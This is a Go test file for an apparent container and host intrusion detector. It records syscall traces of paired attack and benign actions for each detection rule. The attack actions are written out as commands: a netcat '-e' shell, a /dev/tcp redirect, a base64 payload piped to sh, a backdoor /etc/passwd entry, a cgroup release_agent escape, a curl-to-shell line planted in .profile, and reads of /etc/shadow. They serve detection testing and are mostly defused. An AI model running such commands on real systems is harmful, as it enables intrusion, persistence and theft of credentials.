package rules_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"flag"
	"fmt"
	"github.com/vigilsec/vigil/internal/host"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"

	"github.com/vigilsec/vigil/internal/containertest"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/testkernel"
)

var (
	record     = flag.Bool("record", false, "re-record testdata/captures as root (see testdata/record.sh)")
	recordOnly = flag.String("record-only", "", "with -record: only the scenarios whose slug matches this regexp")
)

// action is one recorded action: a host shell script traced with
// `vigil trace --json -- sh -c SCRIPT`, or a container command traced with
// `vigil trace --json --cgroup ID`. Only the events of the listed types
// whose JSON line matches keep are kept (the capture stays small); the
// process ancestry is cut above the tracer or the container shim.
type action struct {
	host    string   // shell script run on the host ($VA is vigil-action, $W a scratch dir)
	ctr     []string // container command (the busybox image; /va is vigil-action)
	exec    []string // command the runtime execs into the running container (containerd exec, as kubectl exec)
	setup   string   // host shell script run before (not traced)
	cleanup string   // host shell script run after
	types   string   // vigil trace --types (the types kept)
	also    string   // more types traced (for the fd table), not kept
	keep    string   // regexp a kept line must match ("" keeps all of types)
	raw     bool     // --raw-fallback (syscalls without a tracepoint)
	priv    bool     // privileged container
	hostNet bool     // container in the host network namespace
	pod     bool     // kubelet pod labels on the container
	hostFS  bool     // the host's / bind-mounted read-only at /host
	max     int      // events kept at most (default maxEvents)
}

type scenario struct {
	slug         string
	fire, benign action
	cleanup      string // host shell script run after each action
}

// scenarios lists the recorded evidence of every default rule: what the
// attack does and what the similar legitimate action does.
var scenarios = []scenario{
	// ---- host
	{slug: "sensitive-file-read",
		fire:   action{host: `setpriv --reuid=65534 --regid=65534 --clear-groups cat /etc/shadow >/dev/null 2>&1; true`, types: "openat", keep: `"name":"/etc/shadow"`},
		benign: action{host: `cat /etc/passwd >/dev/null`, types: "openat", keep: `"name":"/etc/passwd"`}},
	{slug: "directory-traversal-to-sensitive-file",
		fire: action{setup: `mkdir -p $W/www/a/b`, host: `cd $W/www/a/b && cat ../../../../../../../../etc/passwd >/dev/null`,
			types: "openat", keep: `"name":"[^"]*etc/passwd"`},
		benign: action{setup: `mkdir -p $W/www/a/b && echo hi > $W/www/a/index.html`, host: `cd $W/www/a/b && cat ../index.html >/dev/null`,
			types: "openat", keep: `"name":"[^"]*index.html"`}},
	{slug: "credential-search",
		fire:   action{setup: `mkdir -p $W/s && echo x > $W/s/f`, host: `grep -r "BEGIN RSA PRIVATE" $W/s; find $W/s -name id_rsa`, types: "execve", keep: `"(grep|find)"`},
		benign: action{setup: `mkdir -p $W/s && echo x > $W/s/f`, host: `grep -r "TODO" $W/s; find $W/s -name '*.go'`, types: "execve", keep: `"(grep|find)"`}},
	{slug: "write-below-binary-directory",
		fire:    action{host: `cp /bin/true /usr/local/bin/vigil-rec-dropped`, types: "openat", keep: `"name":"[^"]*vigil-rec-dropped`},
		benign:  action{host: `cp /bin/true /usr/local/share/vigil-rec-dropped`, types: "openat", keep: `"name":"[^"]*vigil-rec-dropped`},
		cleanup: `rm -f /usr/local/bin/vigil-rec-dropped /usr/local/share/vigil-rec-dropped`},
	{slug: "log-files-cleared",
		fire:    action{setup: `echo old > /var/log/vigil-rec.log`, host: `: > /var/log/vigil-rec.log`, types: "openat", keep: `"name":"[^"]*vigil-rec.log"`},
		benign:  action{setup: `mkdir -p $W/build && echo old > $W/build/vigil-rec.log`, host: `cd $W/build && : > vigil-rec.log`, types: "openat", keep: `"name":"[^"]*vigil-rec.log"`},
		cleanup: `rm -f /var/log/vigil-rec.log`},
	{slug: "bulk-data-removal",
		fire:   action{setup: `mkdir -p $W/d && echo x > $W/d/f`, host: `shred -u $W/d/f`, types: "execve", keep: `"shred"`},
		benign: action{setup: `mkdir -p $W/d && echo x > $W/d/f`, host: `rm -f $W/d/f`, types: "execve", keep: `"rm"`}},
	{slug: "symlink-over-sensitive-file",
		fire:   action{host: `ln -s /etc $W/etc-link`, types: "symlink,symlinkat"},
		benign: action{host: `ln -s /etc/hostname $W/hostname-link`, types: "symlink,symlinkat"}},
	{slug: "hardlink-over-sensitive-file",
		fire: action{setup: `mkdir -p /root/.ssh && touch /root/.ssh/vigil-rec-key`, host: `ln /root/.ssh/vigil-rec-key /root/.vigil-rec-link`,
			types: "link,linkat", cleanup: `rm -rf /root/.ssh/vigil-rec-key /root/.vigil-rec-link; rmdir /root/.ssh 2>/dev/null; true`},
		benign:  action{host: `ln /etc/debian_version /etc/.vigil-rec-link`, types: "link,linkat"},
		cleanup: `rm -f /etc/.vigil-rec-link`},
	{slug: "ptrace-attach",
		fire:   action{host: `$VA ptrace-attach`, types: "ptrace"},
		benign: action{host: `strace -f -o /dev/null /bin/true`, types: "ptrace", keep: `"request":(16|16902),`}},
	{slug: "ptrace-anti-debug",
		fire:   action{host: `$VA traceme`, types: "ptrace"},
		benign: action{host: `gdb -q -batch -ex run /bin/true >/dev/null 2>&1`, types: "ptrace", keep: `"request":0,`}},
	{slug: "kernel-module-loaded",
		fire:   action{host: `$VA finit-module /etc/hostname`, types: "init_module,finit_module", raw: true},
		benign: action{host: `cat /proc/modules >/dev/null; lsmod >/dev/null 2>&1 || true`, types: "init_module,finit_module,execve", raw: true}},
	{slug: "unexpected-bpf-program-load",
		fire:   action{host: `$VA bpf-load`, types: "bpf"},
		benign: action{host: `bpftool feature probe kernel >/dev/null 2>&1`, types: "bpf", keep: `"cmd":5}`}},
	{slug: "fileless-execution-via-memfd",
		fire:   action{host: `$VA memfd-exec /bin/true`, types: "execve,execveat", keep: `"execve"`},
		benign: action{host: `$VA exec /bin/true`, types: "execve,execveat", keep: `"execve"`}},
	{slug: "execution-from-dev-shm",
		fire: action{host: `cp /bin/true /dev/shm/vigil-rec && /dev/shm/vigil-rec; printf 'true\n' > /dev/shm/vigil-rec.sh && sh /dev/shm/vigil-rec.sh && perl /dev/shm/vigil-rec.sh; true`,
			types: "execve", keep: `vigil-rec`},
		benign: action{host: `cp /bin/true $W/vigil-rec && $W/vigil-rec; printf 'true\n' > $W/vigil-rec.sh && sh $W/vigil-rec.sh; ls /dev/shm >/dev/null`,
			types: "execve", keep: `vigil-rec|"ls"`},
		cleanup: `rm -f /dev/shm/vigil-rec /dev/shm/vigil-rec.sh`},
	{slug: "netcat-remote-shell",
		fire: action{setup: `mkdir -p $W/bin && ln -sf $(command -v busybox) $W/bin/nc`,
			host:  `$VA listen 14441 & sleep 0.3; $W/bin/nc 127.0.0.1 14441 -e /bin/true; wait`,
			types: "execve", keep: `"nc"`},
		benign: action{setup: `mkdir -p $W/bin && ln -sf $(command -v busybox) $W/bin/nc`,
			host:  `$VA listen 14442 & sleep 0.3; echo hi | $W/bin/nc -w 1 127.0.0.1 14442; wait`,
			types: "execve", keep: `"nc"`}},
	{slug: "standard-stream-redirected-to-socket",
		fire: action{host: `$VA listen 14443 & sleep 0.3; bash -c 'exec 3<>/dev/tcp/127.0.0.1/14443; exec 1>&3; echo x'; wait`,
			types: "dup,dup2,dup3", also: "socket,connect,openat", keep: `"ret":[012],`},
		benign: action{host: `bash -c 'exec 3>$W/out; exec 1>&3; echo x'`, types: "dup,dup2,dup3", also: "socket,connect,openat", keep: `"ret":[012],`}},
	{slug: "system-user-interactive",
		fire:   action{host: `$VA pty setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/id </dev/null`, types: "execve", keep: `"id"`},
		benign: action{host: `$VA pty /usr/bin/id </dev/null`, types: "execve", keep: `"id"`}},
	{slug: "ssh-to-non-standard-port",
		fire: action{host: `$VA listen 14422 & sleep 0.3; ssh -p 14422 -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no 127.0.0.1 true 2>/dev/null; wait`,
			types: "connect", keep: `14422`},
		benign: action{setup: `( ss -ltn | grep -q '127.0.0.1:22 ' ) || ($VA listen 22 2>&1 &)`,
			host:  `timeout 3 ssh -p 22 -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no 127.0.0.1 true 2>/dev/null; true`,
			types: "connect", keep: `:22"`}},
	{slug: "crypto-miner-stratum-connection",
		fire: action{hostNet: true, ctr: []string{"sh", "-c", "/va listen 3333 & sleep 0.5; echo '{\"id\":1,\"method\":\"login\"}' | nc -w 1 127.0.0.1 3333; wait"},
			types: "connect", keep: `:3333`},
		benign: action{hostNet: true, ctr: []string{"sh", "-c", "/va listen 18081 & sleep 0.5; echo 'GET / HTTP/1.0' | nc -w 1 127.0.0.1 18081; wait"},
			types: "connect", keep: `:18081`}},

	// ---- containers
	{slug: "shell-spawned-in-container",
		fire:   action{ctr: []string{"sleep", "3"}, exec: []string{"sh", "-c", "id"}, types: "execve", keep: `"sh"`},
		benign: action{ctr: []string{"sh", "-c", "id"}, types: "execve", keep: `"sh"`}},
	{slug: "terminal-shell-in-container",
		fire:   action{ctr: []string{"/va", "pty", "sh", "-c", "id"}, types: "execve", keep: `"sh"`},
		benign: action{ctr: []string{"/va", "exec", "/bin/sh", "-c", "id"}, types: "execve", keep: `"sh"`}},
	{slug: "drop-and-execute-new-binary-in-container",
		fire:   action{ctr: []string{"sh", "-c", "cp /bin/busybox /tmp/true && /tmp/true"}, types: "execve", keep: `/tmp/true`},
		benign: action{ctr: []string{"sh", "-c", "/bin/busybox true"}, types: "execve", keep: `busybox`}},
	{slug: "package-manager-in-container",
		fire: action{ctr: []string{"sh", "-c", "printf '#!/bin/sh\\necho installed\\n' > /bin/apk && chmod +x /bin/apk && apk add curl"},
			types: "execve", keep: `"apk"`},
		benign: action{setup: `mkdir -p $W/bin && printf '#!/bin/sh\necho installed\n' > $W/bin/apk && chmod +x $W/bin/apk`,
			host: `$W/bin/apk add curl`, types: "execve", keep: `"apk"`}},
	{slug: "write-below-etc-in-container",
		fire:   action{ctr: []string{"sh", "-c", "echo 'backdoor:x:0:0::/:/bin/sh' >> /etc/passwd"}, types: "openat", keep: `"name":"/etc/passwd"`},
		benign: action{ctr: []string{"sh", "-c", "grep root /etc/passwd; echo x > /tmp/state"}, types: "openat", keep: `"name":"(/etc/passwd|/tmp/state)"`}},
	{slug: "release-agent-container-escape",
		fire: action{priv: true, ctr: []string{"sh", "-c", "mkdir -p /tmp/cg && mount -t cgroup -o none,name=vigilrec cgroup /tmp/cg && echo /nonexistent > /tmp/cg/release_agent; umount /tmp/cg"},
			types: "openat", keep: `"name":"[^"]*release_agent"`},
		benign: action{priv: true, ctr: []string{"sh", "-c", "mkdir -p /tmp/cg && mount -t cgroup -o none,name=vigilrec cgroup /tmp/cg && cat /tmp/cg/release_agent; umount /tmp/cg"},
			types: "openat", keep: `"name":"[^"]*release_agent"`}},
	{slug: "namespace-change-in-container",
		fire:   action{ctr: []string{"busybox", "unshare", "-m", "true"}, types: "setns,unshare"},
		benign: action{host: `unshare -m true`, types: "setns,unshare"}},
	{slug: "debugfs-in-privileged-container",
		fire:   action{priv: true, hostFS: true, ctr: []string{"busybox", "chroot", "/host", "/sbin/debugfs", "-V"}, types: "execve", keep: `debugfs`},
		benign: action{hostFS: true, ctr: []string{"busybox", "chroot", "/host", "/sbin/debugfs", "-V"}, types: "execve", keep: `debugfs`}},
	{slug: "mount-in-container",
		fire:   action{ctr: []string{"sh", "-c", "mkdir -p /tmp/m && mount -t tmpfs none /tmp/m; true"}, types: "mount", keep: `tmpfs`},
		benign: action{setup: `mkdir -p $W/m`, host: `mount -t tmpfs none $W/m && umount $W/m`, types: "mount", keep: `tmpfs`}},
	{slug: "userfaultfd-in-container",
		fire:   action{ctr: []string{"/va", "userfaultfd"}, types: "userfaultfd"},
		benign: action{host: `$VA userfaultfd`, types: "userfaultfd"}},
	{slug: "packet-socket-in-container",
		fire:   action{ctr: []string{"/va", "packet-socket"}, types: "socket", keep: `"domain":17,`},
		benign: action{ctr: []string{"/va", "udp-socket"}, types: "socket", keep: `"domain":2,`}},
	{slug: "cloud-metadata-access-from-container",
		fire:   action{hostNet: true, ctr: []string{"sh", "-c", "echo | nc -w 1 169.254.169.254 80; true"}, types: "connect", keep: `169.254.169.254`},
		benign: action{hostNet: true, ctr: []string{"sh", "-c", "/va listen 18082 & sleep 0.5; echo | nc -w 1 127.0.0.1 18082; wait"}, types: "connect", keep: `18082`}},
	{slug: "payload-decoded-in-container",
		fire:   action{ctr: []string{"sh", "-c", "echo aWQK | base64 -d | sh"}, types: "execve", keep: `base64`},
		benign: action{ctr: []string{"sh", "-c", "echo id | base64"}, types: "execve", keep: `base64`}},
	// ---- stateful rules (sequence, threshold)
	{slug: "port-scan-from-container",
		fire: action{hostNet: true, ctr: []string{"sh", "-c", "p=47100; while [ $p -lt 47140 ]; do echo | nc -w 1 127.0.0.1 $p; p=$((p+1)); done; true"},
			types: "connect", keep: `"port":471[0-3][0-9]\}`, max: 40},
		benign: action{hostNet: true, ctr: []string{"sh", "-c", "i=0; while [ $i -lt 40 ]; do echo | nc -w 1 127.0.0.1 47199; i=$((i+1)); done; true"},
			types: "connect", keep: `"port":47199\}`, max: 40}},
	{slug: "download-then-execute",
		fire: action{hostNet: true, ctr: []string{"sh", "-c", "mkdir -p /tmp/www && cp /bin/busybox /tmp/www/payload && " +
			"(/va http-serve 18090 /tmp/www 1 &) && sleep 0.5 && wget -q -O /tmp/payload http://127.0.0.1:18090/payload && chmod +x /tmp/payload && /tmp/payload true; true"},
			types: "openat,execve", keep: `"args":\{[^}]*"name":"/tmp/payload"|"filename":"/tmp/payload"`},
		benign: action{hostNet: true, ctr: []string{"sh", "-c", "mkdir -p /tmp/www && cp /bin/busybox /tmp/www/payload && " +
			"(/va http-serve 18091 /tmp/www 1 &) && sleep 0.5 && wget -q -O /tmp/payload http://127.0.0.1:18091/payload && cat /tmp/payload >/dev/null && /bin/true"},
			types: "openat,execve", keep: `"args":\{[^}]*"name":"/tmp/payload"|"filename":"/bin/true"`}},
	{slug: "write-then-execute",
		fire: action{ctr: []string{"sh", "-c", "cat /bin/busybox > /tmp/tool && chmod +x /tmp/tool && /tmp/tool true"},
			types: "openat,execve", keep: `"args":\{[^}]*"name":"/tmp/tool"|"filename":"/tmp/tool"`},
		benign: action{setup: `printf 'int main(void){return 0;}\n' > $W/main.c`, host: `cd $W && gcc -o hello main.c && ./hello`,
			types: "openat,execve", keep: `"args":\{[^}]*"name":"([^"]*/)?hello"|"filename":"[^"]*hello"`}},
	{slug: "shell-then-outbound-connection-in-container",
		fire: action{hostNet: true, ctr: []string{"sleep", "3"}, exec: []string{"sh", "-c", "echo | nc -w 1 192.0.2.2 47301; true"},
			types: "execve,connect", also: "socket", keep: `"filename":"(/bin/)?sh"|"port":47301\}`},
		benign: action{hostNet: true, ctr: []string{"sh", "-c", "echo | nc -w 1 192.0.2.2 47302; echo | nc -w 1 127.0.0.1 47303; true"},
			types: "execve,connect", also: "socket", keep: `"filename":"(/bin/)?sh"|"port":4730[23]\}`}},
	{slug: "kubernetes-api-contacted-from-container",
		fire: action{pod: true, hostNet: true,
			ctr: []string{"sh", "-c", "/va listen 6443 & sleep 0.5; echo | nc -w 1 127.0.0.1 6443; wait"}, types: "connect", keep: `6443`},
		benign: action{pod: true, hostNet: true,
			ctr: []string{"sh", "-c", "/va listen 18080 & sleep 0.5; echo | nc -w 1 127.0.0.1 18080; wait"}, types: "connect", keep: `18080`}},
	// ---- issue 14 item 1: upstream incubating/sandbox behaviours
	{slug: "shell-configuration-modified",
		fire:   action{ctr: []string{"sh", "-c", "echo 'wget -qO- http://x | sh' >> /root/.profile"}, types: "openat", keep: `\.profile`},
		benign: action{ctr: []string{"sh", "-c", "cat /root/.profile 2>/dev/null; echo notes > /tmp/profile-notes"}, types: "openat", keep: `profile`}},
	{slug: "shell-history-deleted",
		fire: action{ctr: []string{"sh", "-c", "echo ls >> /root/.ash_history; rm /root/.ash_history; echo id >> /root/.bash_history; : > /root/.bash_history"},
			types: "unlink,unlinkat,openat", keep: `_history`},
		benign: action{ctr: []string{"sh", "-c", "echo ls >> /root/.ash_history; cat /root/.ash_history >/dev/null"}, types: "unlink,unlinkat,openat", keep: `_history`}},
	{slug: "cron-job-scheduled",
		fire:   action{ctr: []string{"sh", "-c", "mkdir -p /etc/cron.d && echo '* * * * * root id' > /etc/cron.d/job"}, types: "openat", keep: `cron`},
		benign: action{ctr: []string{"sh", "-c", "crontab -l 2>/dev/null; cat /etc/cron.d/job 2>/dev/null; true"}, types: "execve,openat", keep: `cron`}},
	{slug: "ssh-authorized-keys-modified",
		fire:   action{ctr: []string{"sh", "-c", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3Nz x' >> /root/.ssh/authorized_keys"}, types: "openat", keep: `authorized_keys`},
		benign: action{ctr: []string{"sh", "-c", "cat /root/.ssh/authorized_keys 2>/dev/null; true"}, types: "openat", keep: `authorized_keys`}},
	{slug: "setuid-or-setgid-bit-set",
		fire:   action{ctr: []string{"sh", "-c", "echo x > /tmp/bb && chmod u+s,g+s /tmp/bb"}, types: "chmod,fchmod,fchmodat"},
		benign: action{ctr: []string{"sh", "-c", "echo x > /tmp/f && chmod 640 /tmp/f"}, types: "chmod,fchmod,fchmodat"}},
	{slug: "executable-created-in-container",
		fire: action{ctr: []string{"sh", "-c", "echo 'echo hi' > /tmp/run.sh && chmod +x /tmp/run.sh; cp /bin/busybox /tmp/tool"},
			types: "chmod,fchmod,fchmodat,openat", keep: `run\.sh|/tmp/tool`},
		benign: action{ctr: []string{"sh", "-c", "echo data > /tmp/data.txt && chmod 600 /tmp/data.txt; cp /etc/hostname /tmp/hn"},
			types: "chmod,fchmod,fchmodat,openat", keep: `data\.txt|/tmp/hn`}},
	{slug: "process-environment-read-in-container",
		fire:   action{ctr: []string{"sh", "-c", "cat /proc/1/environ >/dev/null"}, types: "openat", keep: `environ`},
		benign: action{ctr: []string{"sh", "-c", "cat /proc/self/environ >/dev/null; cat /proc/1/status >/dev/null"}, types: "openat", keep: `environ|/status`}},
	{slug: "database-server-spawned-process",
		fire: action{ctr: []string{"sh", "-c", "printf '#!/bin/sh\n/bin/id\ntrue\n' > /tmp/mysqld && chmod +x /tmp/mysqld && /tmp/mysqld"},
			types: "execve", keep: `mysqld|/bin/id`},
		benign: action{ctr: []string{"sh", "-c", "printf '#!/bin/sh\n/bin/id\ntrue\n' > /tmp/appserver && chmod +x /tmp/appserver && /tmp/appserver"},
			types: "execve", keep: `appserver|/bin/id`}},
	{slug: "remote-copy-or-cluster-client-in-container",
		fire: action{ctr: []string{"sh", "-c", "printf '#!/bin/sh\ntrue\n' > /tmp/kubectl && chmod +x /tmp/kubectl && /tmp/kubectl get secrets -A"},
			types: "execve", keep: `kubectl`},
		benign: action{setup: `mkdir -p $W/bin && printf '#!/bin/sh
true
' > $W/bin/kubectl && chmod +x $W/bin/kubectl`,
			host: `$W/bin/kubectl get pods`, types: "execve", keep: `kubectl`}},
	{slug: "privilege-escalation-exploit-attempt",
		fire: action{setup: `mkdir -p /tmp/vigil-rec-bin && cp /bin/true /tmp/vigil-rec-bin/sudoedit && cp /bin/true /tmp/vigil-rec-bin/pkexec && chmod 755 /tmp/vigil-rec-bin`,
			host:  `setpriv --reuid=65534 --regid=65534 --clear-groups /tmp/vigil-rec-bin/sudoedit -s 'x\'; setpriv --reuid=65534 --regid=65534 --clear-groups /tmp/vigil-rec-bin/pkexec; true`,
			types: "execve", keep: `sudoedit|pkexec`},
		benign: action{setup: `mkdir -p /tmp/vigil-rec-bin && cp /bin/true /tmp/vigil-rec-bin/sudoedit && cp /bin/true /tmp/vigil-rec-bin/pkexec && chmod 755 /tmp/vigil-rec-bin`,
			host:  `setpriv --reuid=65534 --regid=65534 --clear-groups /tmp/vigil-rec-bin/sudoedit /etc/hosts; setpriv --reuid=65534 --regid=65534 --clear-groups /tmp/vigil-rec-bin/pkexec --version; true`,
			types: "execve", keep: `sudoedit|pkexec`},
		cleanup: `rm -rf /tmp/vigil-rec-bin`},
	{slug: "hidden-file-in-staging-directory",
		fire:   action{ctr: []string{"sh", "-c", "mkdir /tmp/.cache-x && echo p > /dev/shm/.x"}, types: "mkdir,mkdirat,openat", keep: `/(tmp|shm)/\.`},
		benign: action{ctr: []string{"sh", "-c", "mkdir /tmp/cache-x && echo p > /dev/shm/x && mkdir -p /root/.config"}, types: "mkdir,mkdirat,openat", keep: `cache-x|shm/x|\.config`}},
	{slug: "package-database-modified",
		fire:   action{ctr: []string{"sh", "-c", "mkdir -p /var/lib/rpm && echo x > /var/lib/rpm/Packages"}, types: "openat", keep: `/var/lib/`},
		benign: action{ctr: []string{"sh", "-c", "cat /var/lib/rpm/Packages 2>/dev/null; mkdir -p /var/lib/app && echo x > /var/lib/app/db"}, types: "openat", keep: `/var/lib/`}},
	{slug: "web-server-spawned-shell-or-tool",
		fire: action{ctr: []string{"sh", "-c", "printf '#!/bin/sh\n/bin/sh -c /bin/id\ntrue\n' > /tmp/nginx && chmod +x /tmp/nginx && /tmp/nginx"},
			types: "execve", keep: `nginx|/bin/id`},
		benign: action{ctr: []string{"sh", "-c", "printf '#!/bin/sh\n/bin/sh -c /bin/id\ntrue\n' > /tmp/worker && chmod +x /tmp/worker && /tmp/worker"},
			types: "execve", keep: `worker|/bin/id`}},
	{slug: "block-device-opened-in-container",
		fire:   action{priv: true, ctr: []string{"dd", "if=/dev/vda", "of=/dev/null", "bs=512", "count=1"}, types: "openat", keep: `/dev/vda`},
		benign: action{priv: true, ctr: []string{"dd", "if=/dev/zero", "of=/dev/null", "bs=512", "count=1"}, types: "openat", keep: `/dev/(zero|null)`}},
	{slug: "privileged-or-host-mounting-container-started",
		fire:   action{priv: true, ctr: []string{"true"}, types: "container"},
		benign: action{ctr: []string{"true"}, types: "container"}},
}

// TestRecord re-records the captures of testdata/captures. It runs only
// with -record, as root, with containerd (testdata/record.sh).
func TestRecord(t *testing.T) {
	if !*record {
		t.Skip("re-recording only with -record (testdata/record.sh)")
	}
	testkernel.RequireRoot(t)
	tmp := t.TempDir()
	vigil := filepath.Join(tmp, "vigil")
	va := filepath.Join(tmp, "vigil-action")
	build := func(out, pkg string, static bool) {
		c := exec.Command("go", "build", "-o", out, pkg)
		c.Env = os.Environ()
		if static {
			c.Env = append(c.Env, "CGO_ENABLED=0") // runs in the busybox containers
		}
		if b, err := c.CombinedOutput(); err != nil {
			t.Fatalf("go build %s: %v\n%s", pkg, err, b)
		}
	}
	if bin := os.Getenv("VIGIL_BIN"); bin != "" {
		vigil = bin
	} else {
		build(vigil, "../cmd/vigil", false)
	}
	build(va, "./testdata/actions", true)
	var env *containertest.Env
	var only *regexp.Regexp
	if *recordOnly != "" {
		only = regexp.MustCompile(*recordOnly)
	}
	for _, sc := range scenarios {
		if (only == nil || only.MatchString(sc.slug)) && (sc.fire.ctr != nil || sc.benign.ctr != nil) && env == nil {
			env = containertest.New(t) // the client lives as long as TestRecord
		}
	}
	for _, sc := range scenarios {
		if only != nil && !only.MatchString(sc.slug) {
			continue
		}
		t.Run(sc.slug, func(t *testing.T) {
			for _, kind := range []string{"fire", "benign"} {
				a := sc.fire
				if kind == "benign" {
					a = sc.benign
				}
				lines := recordAction(t, vigil, va, env, a)
				for _, c := range []string{a.cleanup, sc.cleanup} {
					if c != "" {
						shell(t, c, nil)
					}
				}
				if len(lines) == 0 {
					t.Fatalf("%s: no event kept (types %s, keep %q)", kind, a.types, a.keep)
				}
				dir := filepath.Join(capturesDir, sc.slug)
				if err := os.MkdirAll(dir, 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(dir, kind+".jsonl"), bytes.Join(lines, nil), 0o644); err != nil {
					t.Fatal(err)
				}
				t.Logf("%s/%s.jsonl: %d events", sc.slug, kind, len(lines))
			}
		})
	}
}

func shell(t *testing.T, script string, extra []string) {
	t.Helper()
	c := exec.Command("sh", "-c", script)
	c.Env = append(os.Environ(), extra...)
	if b, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%s: %v\n%s", script, err, b)
	}
}

func recordAction(t *testing.T, vigil, va string, env *containertest.Env, a action) [][]byte {
	t.Helper()
	work := t.TempDir()
	vars := []string{"VA=" + va, "W=" + work}
	if a.setup != "" {
		shell(t, a.setup, vars)
	}
	var out []byte
	if a.ctr == nil {
		args := []string{"trace", "--json", "--types", joinTypes(a.types, a.also)}
		if a.raw {
			args = append(args, "--raw-fallback")
		}
		// The action's output would mix with the capture on stdout.
		args = append(args, "--", "sh", "-c", "exec >/dev/null 2>&1; "+a.host)
		c := exec.Command(vigil, args...)
		// The action runs in its scratch directory: a capture never names
		// the checkout it was recorded from (proc.cwd is in every event).
		c.Dir = work
		c.Env = append(os.Environ(), vars...)
		var stderr bytes.Buffer
		c.Stderr = &stderr
		var err error
		out, err = c.Output()
		if err != nil {
			t.Logf("trace exited: %v\n%s", err, stderr.String())
		}
	} else {
		out = recordContainer(t, vigil, va, env, a)
	}
	return trim(t, vigil, out, a)
}

// recordContainer creates the container, traces its cgroup, starts it and
// waits for it to exit. Readiness and completion are marked by a host
// process moved into the container's cgroup that execs /bin/true with a
// marker argument.
func recordContainer(t *testing.T, vigil, va string, env *containertest.Env, a action) []byte {
	t.Helper()
	spec := containertest.Spec{Args: a.ctr, Privileged: a.priv, HostNetwork: a.hostNet, NoStart: true,
		Mounts: []specs.Mount{{Type: "bind", Source: va, Destination: "/va", Options: []string{"rbind", "ro"}}}}
	if a.hostFS {
		spec.Mounts = append(spec.Mounts, specs.Mount{Type: "bind", Source: "/", Destination: "/host", Options: []string{"rbind", "ro"}})
	}
	if a.pod {
		spec.Labels = containertest.PodLabels("payments", "checkout-7d9f", "4b1c2f5e-0000-4000-8000-000000000001", "app", nil)
	}
	c := env.Run(t, spec)
	root, err := host.Cgroup2Root()
	if err != nil {
		t.Fatal(err)
	}
	cg := c.CgroupDir(root)
	st, err := os.Stat(cg)
	if err != nil {
		t.Fatalf("container cgroup: %v", err)
	}
	id := st.Sys().(*syscall.Stat_t).Ino
	outPath := filepath.Join(t.TempDir(), "trace.jsonl")
	f, err := os.Create(outPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	tr := exec.CommandContext(ctx, vigil, "trace", "--json", "--cgroup", fmt.Sprint(id), "--types", joinTypes(a.types, a.also, "execve"))
	tr.Stdout = f
	var stderr bytes.Buffer
	tr.Stderr = &stderr
	tr.Cancel = func() error { return tr.Process.Signal(os.Interrupt) }
	if err := tr.Start(); err != nil {
		t.Fatal(err)
	}
	mark := func(m string) {
		deadline := time.Now().Add(30 * time.Second)
		for time.Now().Before(deadline) {
			shell(t, `echo $$ > `+filepath.Join(cg, "cgroup.procs")+` && exec /bin/true `+m, nil)
			b, _ := os.ReadFile(outPath)
			if bytes.Contains(b, []byte(m)) {
				return
			}
			time.Sleep(100 * time.Millisecond) // retry interval of the marker, not a wait for a result
		}
		t.Fatalf("trace never saw marker %s: %s", m, stderr.String())
	}
	mark("vigil-rec-ready")
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	if a.exec != nil {
		code, out := c.Exec(t, 30*time.Second, a.exec...)
		t.Logf("exec exit %d: %s", code, out)
	}
	code := c.Wait(t, 30*time.Second)
	t.Logf("container exit %d: %s", code, c.Output())
	mark("vigil-rec-done")
	cancel()
	tr.Wait()
	b, err := os.ReadFile(outPath)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// trim keeps the events of the action's types that match its keep regexp
// (never the markers) and cuts each process's ancestry above the tracer
// (vigil) or the container shim, so a capture holds no detail of the
// recording machine beyond the action.
func trim(t *testing.T, vigil string, out []byte, a action) [][]byte {
	t.Helper()
	types := map[string]bool{}
	for _, s := range strings.Split(a.types, ",") {
		types[s] = true
	}
	var keep *regexp.Regexp
	if a.keep != "" {
		keep = regexp.MustCompile(a.keep)
	}
	rd := event.NewCaptureReader(bufio.NewReader(bytes.NewReader(out)))
	var lines [][]byte
	for {
		line, err := nextLine(rd)
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		ev := line.ev
		if !types[ev.Type.String()] && !(ev.Type == event.TypeExecve && types["execveat"]) {
			continue
		}
		if bytes.Contains(line.raw, []byte("vigil-rec-ready")) || bytes.Contains(line.raw, []byte("vigil-rec-done")) {
			continue
		}
		if keep != nil && !keep.Match(line.raw) {
			continue
		}
		stripEnv(&ev)
		for p := ev.Proc; p != nil; p = p.Parent {
			if p.Comm == "vigil" || p.Comm == filepath.Base(vigil) || strings.HasPrefix(p.Comm, "containerd-shim") {
				p.Parent = nil
				break
			}
		}
		lines = append(lines, scrubCheckout(t, event.AppendJSON(nil, &ev)))
		if max := a.max; len(lines) == maxEvents && max == 0 || max > 0 && len(lines) == max {
			break
		}
	}
	return lines
}

// maxEvents bounds a capture: the first matching events are evidence enough.
const maxEvents = 6

type capLine struct {
	ev  event.Event
	raw []byte
}

// nextLine decodes the next event and re-encodes it (the canonical line
// the keep regexp is matched against).
func nextLine(rd *event.CaptureReader) (*capLine, error) {
	var l capLine
	if err := rd.Next(&l.ev); err != nil {
		return nil, err
	}
	l.raw = event.AppendJSON(nil, &l.ev)
	return &l, nil
}

func joinTypes(ts ...string) string {
	var out []string
	for _, t := range ts {
		if t != "" {
			out = append(out, t)
		}
	}
	return strings.Join(out, ",")
}

// benignCorpus is the recording of testdata/benign/workload.sh: ordinary
// operation (container starts through Docker and containerd with shell
// entrypoints, a Docker health check, builds in and out of containers, a
// package install, log rotation) on which no default rule may fire.
const benignCorpus = "testdata/benign/corpus.jsonl.gz"

// corpusDropped are the event types the corpus leaves out: no rule
// condition uses them and they would make up half of it.
